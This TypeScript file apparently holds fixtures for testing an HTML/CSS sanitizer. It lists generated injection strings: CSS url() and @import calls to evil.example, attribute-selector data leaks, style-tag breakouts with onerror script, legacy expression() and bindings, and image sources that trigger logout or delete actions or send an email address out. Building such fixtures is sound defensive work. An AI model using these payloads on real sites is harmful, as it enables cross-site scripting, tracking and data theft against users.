import { combine } from './combine.js';

const DECLARATIONS = [
  'position:fixed;inset:0;z-index:2147483647',
  'background:url(https://evil.example/x)',
  'background-image:image-set(url(https://evil.example/x) 1x)',
  'list-style:url(https://evil.example/x)',
  'cursor:url(https://evil.example/x),auto',
  'content:url(https://evil.example/x)',
  'border-image:url(https://evil.example/x)',
  'mask:url(https://evil.example/x)',
  'filter:url(https://evil.example/x#y)',
  'offset-path:url(https://evil.example/x)',
  'clip-path:url(https://evil.example/x)',
  'src:url(https://evil.example/x)',
  '--x:url(https://evil.example/x)',
  'behavior:url(x.htc)',
  '-moz-binding:url(x.xml#y)',
  'width:expression(harm())',
  'background:url(javascript:harm())',
  'animation:x 1s',
  'anchor-name:--x;position-anchor:--x',
  'view-transition-name:x',
  'display:none',
  'font-size:9999px',
  'color:red!important',
  'all:unset',
];
const RULES = [
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css);',
  '@font-face{font-family:x;src:url(https://evil.example/x)}',
  'input[value^=a]{background:url(https://evil.example/a)}',
  ':host{display:none}',
  ':root{--gedanken-accent:red}',
  '::part(comment){display:none}',
  '@namespace x url(https://evil.example);',
  '@container style(--x:1){p{color:red}}',
  'p:has(+ [name=email]){background:url(https://evil.example/x)}',
  '@property --x{syntax:"*";inherits:false}',
  '*{animation:x}@keyframes x{from{background:url(https://evil.example/x)}}',
  '</style><img src=x onerror=harm()>',
  '<!--</style><img src=x onerror=harm()>-->',
  '/*</style><img src=x onerror=harm()>*/',
];

/** Style by attribute, by sheet and by link. */
export const styles: readonly string[] = [
  ...combine('<p style="{css}">a</p>', { css: DECLARATIONS }),
  ...combine('<{el} style={css}>a</{el}>', {
    el: 'a b blockquote code li table td',
    css: ['position:fixed', '"color:red"', "'background:url(https://evil.example/x)'"],
  }),
  ...combine('<style>{css}</style>a', { css: RULES }),
  ...combine('<{tag} href=https://evil.example/x>a', {
    tag: [
      'link rel=stylesheet',
      'link rel="alternate stylesheet"',
      'link rel=preload as=style',
      'link rel=modulepreload',
      'link rel=prefetch',
      'link rel=icon',
      'link rel=manifest',
      'link rel=preconnect',
      'link rel=expect blocking=render',
      'link rel=compression-dictionary',
    ],
  }),
  ...combine('<{el} {attribute}>a</{el}>', {
    el: 'p td font table',
    attribute: 'bgcolor=red color=red face=x size=7 width=9999 height=9999 border=9 vspace=9',
  }),
];

/** Whatever would be fetched by being there. */
export const requests: readonly string[] = [
  ...combine('<{el} {attribute}="https://evil.example/x">a</{el}>', {
    el: 'img image audio video input source embed iframe object td body bgsound script link track p portal',
    attribute: 'src srcset background poster data lowsrc',
  }),
  ...combine('<img alt=a src="{src}">', {
    src: [
      '/wp-login.php?action=logout',
      '?action=delete',
      '.',
      '',
      ' ',
      '#',
      'x.gif',
      'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
      'data:image/svg+xml,<svg onload=harm()>',
      'blob:https://a.example/1',
      'cid:x',
      'https://user:pass@evil.example/x.gif',
      'https://evil.example/x.gif?{{email}}',
      '//evil.example/x.gif',
      'file:///x.gif',
      'https://evil.example:0/x',
      'HTTPS://EVIL.EXAMPLE/X.GIF',
    ],
  }),
  ...combine('<img src=https://evil.example/x {attribute}>', {
    attribute:
      'crossorigin=use-credentials fetchpriority=high loading=eager decoding=sync referrerpolicy=unsafe-url ismap usemap=#x sizes=100vw width=1e9 height=-1 width=99999 elementtiming=x attributionsrc sharedstoragewritable browsingtopics name=body onload=harm()',
  }),
];
